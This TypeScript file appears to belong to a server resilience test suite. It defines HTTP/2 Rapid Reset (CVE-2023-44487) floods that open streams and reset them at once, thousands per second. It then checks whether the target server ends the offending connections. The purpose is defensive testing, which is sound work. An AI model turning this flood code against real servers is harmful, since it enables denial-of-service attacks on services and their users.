import type { Attack } from "../attack.ts";
import { callHeaders, headersFrame, resetFrame, validatePath } from "../attack-connection.ts";
import { type FloodResult, flood, notEnded, summaryOf } from "../flood.ts";

const block = callHeaders(validatePath);
const PAIRS = 20;

/** CVE-2023-44487: calls that are cancelled as soon as they are sent, beyond every stream limit. */
function rapidReset(
  name: string,
  rate: number,
  check: (result: FloodResult) => string[],
  unitsPerConnection?: number,
): Attack {
  return {
    name,
    shows: "connections that open streams and reset them at once are ended (CVE-2023-44487)",
    async run(target, scale, held) {
      const result = await flood(target, scale, held, {
        rate: scale.full ? rate * 4 : rate,
        minUnits: 1000,
        ...(unitsPerConnection !== undefined && { unitsPerConnection }),
        next(connection) {
          const frames = Array.from({ length: PAIRS }, () => {
            const id = connection.streamId();
            return Buffer.concat([headersFrame(id, block), resetFrame(id)]);
          });
          return { units: PAIRS, bytes: Buffer.concat(frames) };
        },
      });
      const failures = check(result);
      return { summary: summaryOf("resets", result), failures };
    },
  };
}

export const attacks: readonly Attack[] = [
  rapidReset("rapid-reset", 5000, notEnded),
  // Below the limit of a connection, which is renewed instead.
  {
    ...rapidReset(
      "rapid-reset, new connections",
      3000,
      ({ ended }) => (ended > 0 ? [] : ["the peer was never stopped"]),
      900,
    ),
    fullOnly: true,
  },
];
